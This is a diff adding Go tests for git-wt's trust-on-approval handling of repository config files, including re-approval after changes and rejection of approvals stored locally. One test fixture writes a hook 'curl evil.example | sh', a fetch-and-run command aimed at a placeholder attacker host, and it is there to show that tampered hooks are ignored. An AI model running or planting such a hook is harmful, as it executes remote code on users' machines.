@@ -0,0 +1,118 @@
+package git
+
+import (
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/k1LoW/git-wt/testutil"
+)
+
+func TestLoadConfig_RepoConfig(t *testing.T) {
+	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(t.TempDir(), "gitconfig"))
+
+	repo := testutil.NewTestRepo(t)
+	repo.CreateFile("README.md", "# Test")
+	repo.CreateFile(RepoConfigFile, "[wt]\n\thook = echo team\n\tcopy = .env\n\tbasedir = ../elsewhere\n[wt \"frontend/*\"]\n\tsymlink = node_modules/\n")
+	repo.Commit("initial commit")
+	repo.Git("config", "--add", "wt.hook", "echo local")
+
+	restore := repo.Chdir()
+	defer restore()
+
+	// Untrusted: the file is ignored
+	cfg, err := LoadConfig(t.Context())
+	if err != nil {
+		t.Fatalf("LoadConfig() error: %v", err)
+	}
+	if cfg.UntrustedRepoConfig != repo.Path(RepoConfigFile) {
+		t.Errorf("UntrustedRepoConfig = %q, want %q", cfg.UntrustedRepoConfig, repo.Path(RepoConfigFile))
+	}
+	if !slices.Equal(cfg.Hooks, []string{"echo local"}) {
+		t.Errorf("Hooks = %q, want only the local hook", cfg.Hooks)
+	}
+
+	// Trusted: the file is merged under git config
+	file, err := RepoConfigPath(t.Context())
+	if err != nil {
+		t.Fatalf("RepoConfigPath() error: %v", err)
+	}
+	if err := TrustRepoConfig(t.Context(), file); err != nil {
+		t.Fatalf("TrustRepoConfig() error: %v", err)
+	}
+	cfg, err = LoadConfig(t.Context())
+	if err != nil {
+		t.Fatalf("LoadConfig() error: %v", err)
+	}
+	if cfg.UntrustedRepoConfig != "" {
+		t.Errorf("UntrustedRepoConfig = %q, want empty", cfg.UntrustedRepoConfig)
+	}
+	if !slices.Equal(cfg.Hooks, []string{"echo team", "echo local"}) {
+		t.Errorf("Hooks = %q, want the file's hooks first", cfg.Hooks)
+	}
+	if !slices.Equal(cfg.Copy, []string{".env"}) {
+		t.Errorf("Copy = %q, want [.env]", cfg.Copy)
+	}
+	if cfg.BaseDir != ".wt" {
+		t.Errorf("BaseDir = %q, keys other than hooks and patterns should be ignored", cfg.BaseDir)
+	}
+	if got := cfg.ForBranch("frontend/login").Symlink; !slices.Equal(got, []string{"node_modules/"}) {
+		t.Errorf("scoped Symlink = %q, want [node_modules/]", got)
+	}
+
+	// Changed: the file needs approval again
+	repo.CreateFile(RepoConfigFile, "[wt]\n\thook = curl evil.example | sh\n")
+	cfg, err = LoadConfig(t.Context())
+	if err != nil {
+		t.Fatalf("LoadConfig() error: %v", err)
+	}
+	if cfg.UntrustedRepoConfig == "" || !slices.Equal(cfg.Hooks, []string{"echo local"}) {
+		t.Errorf("a changed file should be ignored, got Hooks = %q", cfg.Hooks)
+	}
+
+	// Approving it keeps the approval of the other content, which other
+	// worktrees may still have
+	if err := TrustRepoConfig(t.Context(), file); err != nil {
+		t.Fatalf("TrustRepoConfig() error: %v", err)
+	}
+	trusted, err := globalConfig(t.Context(), configKeyTrusted)
+	if err != nil {
+		t.Fatalf("globalConfig() error: %v", err)
+	}
+	if len(trusted) != 2 || !strings.HasSuffix(trusted[0], " "+repo.Root) || !strings.HasSuffix(trusted[1], " "+repo.Root) {
+		t.Errorf("wt.trusted = %q, want both approvals for %s", trusted, repo.Root)
+	}
+	repo.CreateFile(RepoConfigFile, "[wt]\n\thook = echo team\n\tcopy = .env\n\tbasedir = ../elsewhere\n[wt \"frontend/*\"]\n\tsymlink = node_modules/\n")
+	cfg, err = LoadConfig(t.Context())
+	if err != nil {
+		t.Fatalf("LoadConfig() error: %v", err)
+	}
+	if cfg.UntrustedRepoConfig != "" {
+		t.Errorf("the first content should still be trusted, got UntrustedRepoConfig = %q", cfg.UntrustedRepoConfig)
+	}
+}
+
+func TestLoadConfig_RepoConfigTrustedLocally(t *testing.T) {
+	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(t.TempDir(), "gitconfig"))
+
+	repo := testutil.NewTestRepo(t)
+	repo.CreateFile("README.md", "# Test")
+	content := "[wt]\n\thook = echo team\n"
+	repo.CreateFile(RepoConfigFile, content)
+	repo.Commit("initial commit")
+
+	// An approval in the repository's own config does not count
+	repo.Git("config", "--add", configKeyTrusted, trustEntry([]byte(content), repo.Root))
+
+	restore := repo.Chdir()
+	defer restore()
+
+	cfg, err := LoadConfig(t.Context())
+	if err != nil {
+		t.Fatalf("LoadConfig() error: %v", err)
+	}
+	if cfg.UntrustedRepoConfig == "" || len(cfg.Hooks) != 0 {
+		t.Errorf("a file approved in .git/config should be ignored, got Hooks = %q", cfg.Hooks)
+	}
+}